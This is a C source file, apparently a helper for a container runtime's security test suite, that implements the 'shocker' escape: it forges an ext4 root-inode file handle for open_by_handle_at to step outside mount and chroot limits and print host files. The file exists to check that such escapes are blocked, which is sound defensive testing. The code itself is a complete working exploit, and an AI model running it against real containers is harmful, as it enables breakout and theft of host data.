/* fhopen: the "shocker" attack of issue 14 finding 1, for
 * tests/e2e/ct-security.bats.  Opens the root directory of the filesystem
 * that holds MOUNT_PATH by file handle (ext4: inode 2, generation 0, handle
 * type FILEID_INO32_GEN), bypassing every mount and chroot, then reads
 * FILE relative to it.  Run inside a container it reaches the host's files
 * when the container may call open_by_handle_at with CAP_DAC_READ_SEARCH.
 * Prints "EPERM"/"ERR <errno text>" and exits 1 when refused, prints the
 * file and exits 0 when the attack works.  Built with gcc -static by the
 * test (the test images are busybox-only). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: fhopen MOUNT_PATH FILE\n");
        return 2;
    }
    int mfd = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (mfd < 0) {
        printf("ERR open %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    struct {
        struct file_handle fh;
        unsigned int ino[2];
    } h;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
    h.ino[0] = 2; /* ext4 root inode */
    h.ino[1] = 0;
    int rfd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
    if (rfd < 0) {
        printf("%s\n", errno == EPERM ? "EPERM" : strerror(errno));
        return 1;
    }
    int fd = openat(rfd, argv[2], O_RDONLY);
    if (fd < 0) {
        printf("ERR openat %s: %s\n", argv[2], strerror(errno));
        return 1;
    }
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0)
        fwrite(buf, 1, (size_t)n, stdout);
    return 0;
}
